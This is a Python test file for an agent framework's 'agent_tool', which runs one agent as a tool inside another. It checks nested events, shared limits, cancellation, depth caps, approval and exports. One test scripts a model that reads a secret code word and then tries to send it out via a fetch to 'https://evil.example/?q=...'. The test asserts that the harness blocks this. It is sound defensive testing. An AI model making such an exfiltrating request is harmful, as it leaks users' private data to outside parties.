"""An agent as a tool: its steps within the run that calls it, whose limits, stop and store are its own, too."""

from __future__ import annotations

from collections.abc import Generator, Sequence
from dataclasses import replace
from decimal import Decimal
from itertools import pairwise
from json import dumps
from threading import Barrier
from threading import Event as Flag
from typing import Any

import pytest
from pydantic import JsonValue

from agent.errors import BadRequest, ModelFailed
from agent.events import (
    Answered,
    Asked,
    Event,
    Failed,
    Inner,
    Observed,
    Prepared,
    Replied,
    ToolCalled,
    Waiting,
    dump,
    load,
)
from agent.evidence import check
from agent.inner_runs import all_events, model_calls, of_call
from agent.loop.agent import Agent
from agent.loop.approval import Policy
from agent.loop.limits import reached
from agent.loop.within.agent_tool import MOST_DEPTH, agent_tool
from agent.messages import Limits, Money
from agent.models.prices import read_prices
from agent.models.protocol import Delta, Request
from agent.models.scripted import Scripted
from agent.runs import rewind
from agent.runs.conversation import Question, answer
from agent.sharing.export.collected import Exported, ExportedRun
from agent.sharing.export.html_page import export_html
from agent.sharing.export.json_lines import export_json_lines
from agent.sharing.export.markdown import export_markdown
from agent.sharing.import_file import read_import
from agent.store.runs import Store
from agent.store.totals import spent
from agent.toolkit.base import Tool, Toolbox, ToolResult, artifact, tool
from agent.views.event_list import lines
from agent.views.film import film
from agent.views.fold import fold
from agent.views.gauge import gauge
from agent.views.request import model_calls as requests_of
from agent.views.timeline import spans
from tests.support.stories import calls, final, react, stored

TABLE = artifact("table", "prices", b'{"columns": ["item"], "rows": [["bolt"]]}')


@tool
def price(item: str) -> ToolResult:
    """Gives a price."""
    return ToolResult(f"{item}: 4.20 EUR", artifacts=(TABLE,))


@tool
def double(number: int) -> str:
    """Doubles a number."""
    return str(2 * number)


BUYER = agent_tool("buyer", "Finds what things cost.", [price], instructions="You are a buyer.")
TASK = "What does a bolt cost?"


def run(model: Any, *tools: Tool, cancel: Flag | None = None, **more: Any) -> list[Event]:
    """The events of a run that may call these tools, the buyer where none are named."""
    agent = Agent(model, Toolbox(tools or (BUYER,)), **{"wire": "react", **more})
    return stored(list(answer(Question("How much is a bolt?"), agent, cancel or Flag())))


def script() -> Scripted:
    return Scripted(
        [
            react("I ask.", "buyer", TASK),
            react("I look it up.", "price", "bolt"),
            final("A bolt costs 4.20 EUR."),
            final("It costs 4.20 EUR."),
        ]
    )


def kinds(events: Sequence[Event]) -> list[str]:
    return [f"Inner {event.event.type}" if isinstance(event, Inner) else event.type for event in events]


NESTED = [
    *("Asked", "Prepared", "Replied", "ToolCalled", "Inner Prepared", "Inner Replied", "Inner ToolCalled"),
    *("Inner Observed", "Inner Replied", "Inner Answered", "Observed", "Replied", "Answered"),
]


def test_its_steps_are_events_within_the_run() -> None:
    model = script()
    events = run(model)
    model.finish()
    assert kinds(events) == NESTED
    observed = events[-3]
    assert isinstance(observed, Observed) and (observed.text, observed.error) == ("A bolt costs 4.20 EUR.", "")
    ids = [event.call_id for event in all_events(events) if isinstance(event, ToolCalled)]
    assert ids == ["call_1", "call_1.1"]


def test_neither_agent_is_told_what_the_other_thinks() -> None:
    model = script()
    run(model)
    outer, first, second, last = (
        "\n".join(message.content for message in request.messages) for request in model.requests
    )
    assert "- buyer: Finds what things cost." in outer and "price" not in outer
    assert "You are a buyer.\n\nWhat does a bolt cost?" in first
    assert "How much is a bolt?" not in first and "buyer:" not in first
    assert "4.20 EUR" in second
    assert "I look it up." not in last and "A bolt costs 4.20 EUR." in last


def test_on_the_native_wire_it_is_the_same() -> None:
    model = Scripted(
        [
            calls(("x1", "buyer", '{"task": "What does a bolt cost?"}')),
            calls(("x2", "price", '{"item": "bolt"}')),
            [Delta(text="A bolt costs 4.20 EUR."), Delta(finish="stop")],
            [Delta(text="It costs 4.20 EUR."), Delta(finish="stop")],
        ],
        takes_tools=True,
    )
    events = run(model, wire="native")
    assert kinds(events) == NESTED
    assert [schema.name for schema in model.requests[0].tools] == ["buyer"]
    assert [schema.name for schema in model.requests[1].tools] == ["price"]
    assert [message.call_id for message in model.requests[-1].messages if message.role == "tool"] == ["x1"]


def test_live_and_stored_are_folded_alike(store: Store) -> None:
    agent = Agent(script(), Toolbox([BUYER]), "react")
    live = list(answer(Question("How much is a bolt?"), agent, Flag()))
    events = stored(live)
    assert fold(live) == fold(events) == fold([load(dump(event)) for event in events])
    row = store.add_run(store.add_conversation("v", "x"))
    store.append(row, events)
    kept = store.events(row)
    without = replace(fold(events), started=0.0)
    assert replace(fold(kept), started=0.0).answer == without.answer
    assert store.artifact(row, TABLE.hash) == TABLE.content
    view = fold(film(kept).until(10**6))
    assert view == fold(kept)
    call = fold(kept).steps[0].calls[0]
    assert call.inner is not None
    assert (call.inner.state, [step.thought for step in call.inner.steps]) == (
        "answered",
        ["I look it up.", "I now know the final answer"],
    )
    frames = film(kept).frames
    assert all(one.at <= other.at for one, other in pairwise(frames))


def test_what_it_uses_counts_for_the_run() -> None:
    events = run(script())
    used = [call.usage for call in model_calls(events)]
    view, totals = fold(events), spent(events)
    assert len(used) == totals.calls == view.replies == 4
    assert view.usage.input == totals.input == sum(usage.input for usage in used)
    observed = next(event for event in events if isinstance(event, Observed))
    replies = [event for event in events if isinstance(event, Replied)]
    assert view.seconds == pytest.approx(observed.seconds + sum(reply.seconds for reply in replies))
    assert totals.seconds == pytest.approx(view.seconds)
    assert [span.name for span in spans(events)] == ["", "buyer", ""]
    assert reached(events, Limits(steps=4), late=False) == "steps"
    told = gauge(replace(view, limits=Limits(steps=9, seconds=0, tokens=0, money=0)), 1)
    assert told and told.text.startswith("step 5 of 9")


def test_one_with_a_model_of_its_own_is_not_taken_for_small() -> None:
    own = Scripted([[Delta(text="4.20 EUR."), Delta(finish="stop")]], takes_tools=True)
    buyer = agent_tool("buyer", "Finds what things cost.", [price], model=own)
    events = run(Scripted([react("I ask.", "buyer", TASK), final("4.20 EUR.")]), buyer, wire="auto", small=True)
    assert events[-1] == Answered("4.20 EUR.")
    assert [tool.name for tool in own.requests[0].tools] == ["price"]


def test_its_limits_are_what_is_left_of_the_runs() -> None:
    limits = Limits(steps=5, seconds=100, tokens=50_000, money=0)
    within = [event.event for event in run(script(), limits=limits) if isinstance(event, Inner)]
    prepared = within[0]
    assert isinstance(prepared, Prepared) and prepared.limits is not None
    assert prepared.limits.steps == 4
    assert prepared.limits.tokens < 50_000
    assert 70 < prepared.limits.seconds <= 80


def test_at_the_limit_it_gives_its_best_answer_and_so_does_the_run() -> None:
    model = Scripted(
        [
            react("a", "buyer", TASK),
            react("b", "price", "bolt"),
            final("About 4.20 EUR."),  # asked for at once: two steps were left, of which one looked it up
            final("4.20 EUR."),
        ]
    )
    events = run(model, limits=Limits(steps=2, seconds=0, tokens=0, money=0))
    model.finish()
    ends = [event.reason for event in all_events(events) if isinstance(event, Answered)]
    assert ends == ["limit", "limit"]


def test_where_nothing_is_left_it_does_not_begin() -> None:
    model = Scripted([react("a", "buyer", TASK), final("I do not know.")])
    events = run(model, limits=Limits(steps=1, seconds=0, tokens=0, money=0))
    model.finish()
    observed = next(event for event in events if isinstance(event, Observed) and event.call_id)
    assert observed.error == "refused" and "leave nothing for buyer" in observed.text
    assert not [event for event in events if isinstance(event, Inner)]


def test_money_and_tokens_of_the_limits_are_shared_by_agents_at_work_at_the_same_time() -> None:
    seen: list[Limits] = []
    both_at_work = Barrier(2, timeout=60)

    class Together(Scripted):
        def stream(self, request: Request) -> Generator[Delta]:
            both_at_work.wait()
            yield from super().stream(request)

    one = agent_tool("one", "Answers.", model=Together([final("1")]))
    two = agent_tool("two", "Answers.", model=Together([final("2")]))
    asking = calls(("a", "one", '{"task": "x"}'), ("b", "two", '{"task": "y"}'))
    model = Scripted([asking, [Delta(text="1 and 2"), Delta(finish="stop")]], takes_tools=True)
    events = run(model, one, two, wire="native", limits=Limits(steps=9, seconds=0, tokens=0, money=0.5))
    for event in events:
        if isinstance(event, Inner) and isinstance(event.event, Prepared):
            assert event.event.limits is not None
            seen.append(event.event.limits)
    assert [(limits.steps, limits.money) for limits in seen] == [(4, 0.25)] * 2
    texts = {event.call_id: event.text for event in events if isinstance(event, Observed)}
    assert texts == {"a": "1", "b": "2"}
    assert fold(events) == fold([load(dump(event)) for event in events])


def test_its_price_is_the_runs() -> None:
    events = run(script(), prices=read_prices("scripted=1/1/2"))
    paid = [call.price.amount for call in model_calls(events) if call.price]
    assert len(paid) == 4
    assert fold(events).price == Money(sum(paid, Decimal()), "USD")
    assert spent(events).money == pytest.approx(float(sum(paid)))
    assert reached(events, Limits(money=0.99 * float(sum(paid))), late=False) == "money"


def test_stop_stops_it_and_what_it_used_is_kept() -> None:
    cancel = Flag()

    class Stopping(Scripted):
        def stream(self, request: Request) -> Generator[Delta]:
            played = super().stream(request)
            if len(self.requests) < 2:
                yield from played
                return
            yield Delta(text="Thought: I look")
            cancel.set()
            yield Delta(text=" it up.")
            yield Delta(text=" And more.")

    model = Stopping([react("I ask.", "buyer", TASK), "", final("never asked for")])
    events = run(model, cancel=cancel)
    last = events[-1]
    assert isinstance(last, Failed) and last.reason == "cancelled"
    assert len(model.requests) == 2
    inner = fold(events).steps[0].calls[0].inner
    assert inner is not None and (inner.state, inner.reason) == ("failed", "cancelled")
    assert inner.steps[-1].thought == "I look it up." or inner.steps[-1].unfinished
    assert spent(events).calls == 2


@pytest.mark.parametrize(
    ("reply", "said"),
    [
        (ModelFailed("The model's server is gone."), "came to no answer: The model's server is gone."),
        (final("").strip(), "came to no answer"),
    ],
)
def test_one_that_fails_is_an_observation_that_says_so(reply: Any, said: str) -> None:
    failing = agent_tool("buyer", "Finds what things cost.", [price], model=Scripted([reply] * 4))
    events = run(Scripted([react("a", "buyer", TASK), final("I do not know.")]), failing)
    observed = next(event for event in events if isinstance(event, Observed) and event.call_id)
    assert observed.error and said in observed.text
    last = events[-1]
    assert isinstance(last, Answered) and last.text == "I do not know."


def test_a_bug_in_it_ends_the_run_with_a_reference() -> None:
    @tool
    def buggy(item: str) -> str:
        """Has a bug."""
        raise ZeroDivisionError

    model = Scripted([react("a", "buyer", TASK), react("b", "buggy", "x")])
    last = run(model, agent_tool("buyer", "Finds.", [buggy]))[-1]
    assert isinstance(last, Failed) and last.reason == "error" and last.reference


def test_agents_call_agents_only_so_deep() -> None:
    deepest = agent_tool("agent_0", "Answers.", [price])
    nested = deepest
    for number in range(1, MOST_DEPTH + 1):
        nested = agent_tool(f"agent_{number}", "Answers.", [nested])
    down = [react("down", f"agent_{number}", "go on") for number in range(MOST_DEPTH, -1, -1)]
    model = Scripted([*down, *[final(f"back {number}") for number in range(MOST_DEPTH + 1)]])
    events = run(model, nested)
    model.finish()
    refused = [event for event in all_events(events) if isinstance(event, Observed) and event.error == "refused"]
    assert [f"{MOST_DEPTH} deep" in event.text for event in refused] == [True]
    assert fold([load(dump(event)) for event in events]) == fold(events)
    assert isinstance(events[-1], Answered)


def test_it_may_be_given_tools_of_the_run_by_name() -> None:
    helper = agent_tool("helper", "Helps.", ["double", "gone", "helper"])
    model = Scripted([react("a", "helper", "21?"), react("b", "double", "21"), final("42"), final("42")])
    events = run(model, helper, double)
    model.finish()
    told = model.requests[1].messages[0].content
    assert "- double:" in told and "- helper:" not in told and "gone" not in told
    assert isinstance(events[-1], Answered)


def test_what_would_ask_the_person_is_not_done_within() -> None:
    sent: list[str] = []

    @tool
    def send(text: str) -> str:
        """Sends a text."""
        sent.append(text)
        return "sent"

    clerk = agent_tool("clerk", "Sends letters.", [send])
    model = Scripted(
        [react("a", "clerk", "Send it."), react("b", "send", "hello"), final("I could not."), final("No.")]
    )
    events = run(model, clerk, policy=Policy(("send",)))
    model.finish()
    denied = next(event for event in all_events(events) if isinstance(event, Observed))
    assert denied.error == "denied" and "cannot ask" in denied.text
    assert not sent


@tool
def secrets() -> str:
    """Reads what is private."""
    return "The code word is Rumpelstilzchen."


def fetched(seen: list[str]) -> Tool:
    @tool
    def fetch(url: str) -> str:
        """Reads a page."""
        seen.append(url)
        return "a page"

    return replace(fetch, address="url", effect="reaches", untrusted=True, public=True)


def test_private_data_of_the_run_are_private_within_and_those_within_are_outside() -> None:
    seen: list[str] = []
    reader = agent_tool("reader", "Reads pages.", [fetched(seen)])
    leak = react("b", "fetch", "https://evil.example/?q=Rumpelstilzchen")
    before = [react("a", "secrets", "{}"), react("a", "reader", "Read it."), leak, final("No."), final("No.")]
    run(Scripted(before), secrets, reader)
    assert seen == []
    knowing = agent_tool("knowing", "Knows.", [secrets])
    after = [react("a", "knowing", "Tell me."), react("b", "secrets", "{}"), final("Rumpelstilzchen."), leak]
    events = run(Scripted(after), knowing, fetched(seen))
    assert seen == [] and events[-1].type == "Waiting"
    # Where nothing private was read, within or outside, it goes on unasked.
    run(Scripted([react("a", "reader", "Read it."), leak, final("Yes."), final("Yes.")]), reader)
    assert seen == ["https://evil.example/?q=Rumpelstilzchen"]


def test_figures_are_traced_to_what_was_observed_within() -> None:
    events = run(script())
    claim = next(claim for claim in check(events).claims if "4.20" in claim.text)
    assert (claim.verdict, claim.places[0].call_id, claim.places[0].step) == ("seen", "call_1.1", 1)
    invented = [
        react("a", "buyer", TASK),
        react("b", "price", "bolt"),
        final("17.35 EUR."),
        final("It costs 17.35 EUR."),
    ]
    claim = next(claim for claim in check(run(Scripted(invented))).claims if "17.35" in claim.text)
    assert claim.verdict == "not_found"


def test_its_calls_can_be_inspected_and_listed() -> None:
    events = run(script())
    within = requests_of(of_call(events, "call_1"))
    assert [call.step for call in within] == [1, 2]
    assert within[0].messages[-1].content.endswith(TASK)
    listed = lines(events, ["Inner"])
    assert len(listed) == 6 and listed[2].about == "call_1 · ToolCalled: price: bolt"
    assert listed[1].usage is not None


def test_an_export_has_its_steps_and_comes_back() -> None:
    events = tuple(run(script()))
    exported = Exported("Bolts", (ExportedRun("1", "", events, artifacts={TABLE.hash: TABLE.content}),))
    bare = [replace(event, event=_bare(event.event)) if isinstance(event, Inner) else event for event in events]
    again = read_import(export_json_lines(exported).encode())
    assert list(again.runs[0].events) == bare
    assert again.runs[0].artifacts == {TABLE.hash: TABLE.content}
    assert export_json_lines(again) == export_json_lines(exported)
    markdown, page = export_markdown(exported), export_html(exported)
    assert "Steps of buyer:" in markdown and "#### Step 1.1: " in markdown
    assert "Steps of buyer" in page and "I look it up." in page


def _bare(event: Event) -> Event:
    if not isinstance(event, Observed):
        return event
    return replace(event, artifacts=tuple(replace(each, content=b"") for each in event.artifacts))


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda event: replace(event, call_id="call_9"), "whose call is not open"),
        (lambda event: replace(event, event=Observed("nobody", "x")), "call that is not open"),
        (lambda event: replace(event, event=Answered("x")), "behind the end of its run"),
        (lambda event: replace(event, event=Waiting("call_1.1", "question", "?")), "the person's part"),
        (lambda event: replace(event, event=Asked("x", 0.0)), "a second question"),
    ],
)
def test_a_file_with_steps_within_that_cannot_be_is_refused(change: Any, said: str) -> None:
    events = run(script())
    place = next(
        place for place, event in enumerate(events) if isinstance(event, Inner) and event.event.type == "Replied"
    )
    event = events[place]
    changed = (*events[:place], change(event), *events[place + 1 :])
    with pytest.raises(BadRequest, match=said):
        read_import(export_json_lines(Exported("x", (ExportedRun("1", "", changed),))).encode())


def test_what_was_observed_of_it_may_be_changed_and_the_run_goes_on() -> None:
    events = run(script())
    kept = rewind.with_observation(events, "call_1", "A bolt costs 5 EUR.")
    assert kinds(kept)[-1] == "Observed" and "Inner Answered" in kinds(kept)
    model = Scripted([final("5 EUR.")])
    agent = Agent(model, Toolbox([BUYER]), "react")
    further = stored(list(answer(Question("How much is a bolt?", so_far=kept, at=len(kept)), agent, Flag())))
    assert isinstance(further[-1], Answered)
    assert "A bolt costs 5 EUR." in model.requests[0].messages[-1].content
    assert next(claim for claim in check(further).claims if "5" in claim.text).traced


def test_outside_a_run_it_says_that_it_needs_one() -> None:
    with pytest.raises(Exception, match="works within a run only"):
        BUYER.call({"task": "x"})


def test_an_empty_task_is_an_observation() -> None:
    bare = agent_tool("bare", "Answers.", model=Scripted([]))
    arguments: dict[str, JsonValue] = {"task": ""}
    events = run(Scripted([calls(("a", "bare", dumps(arguments))), final("x")], takes_tools=True), bare, wire="native")
    observed = next(event for event in events if isinstance(event, Observed) and event.call_id)
    assert observed.error == "input"
